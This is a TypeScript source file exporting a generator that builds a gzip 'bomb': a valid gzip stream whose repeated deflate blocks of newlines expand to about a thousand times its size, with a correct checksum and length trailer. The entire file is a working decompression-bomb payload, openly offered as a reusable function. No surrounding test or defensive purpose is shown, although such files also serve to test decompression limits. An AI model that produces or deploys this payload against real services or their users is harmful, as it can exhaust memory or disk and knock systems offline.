import { constants, crc32, deflateRawSync } from 'node:zlib';

const MEBIBYTE = 2 ** 20;
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);

/** A valid gzip file of one member, about a thousandth in size of the so many MiB of empty lines that it unfolds to. */
export function* gzipBomb(mebibytes: number): Generator<Buffer> {
  const plain = Buffer.alloc(MEBIBYTE, '\n');
  const block = deflateRawSync(plain, { finishFlush: constants.Z_FULL_FLUSH });
  let checksum = 0;
  yield HEADER;
  for (let done = 0; done < mebibytes; done++) {
    checksum = crc32(plain, checksum);
    yield block;
  }
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(checksum, 0);
  trailer.writeUInt32LE((mebibytes * MEBIBYTE) % 2 ** 32, 4);
  yield Buffer.concat([deflateRawSync(Buffer.alloc(0)), trailer]);
}
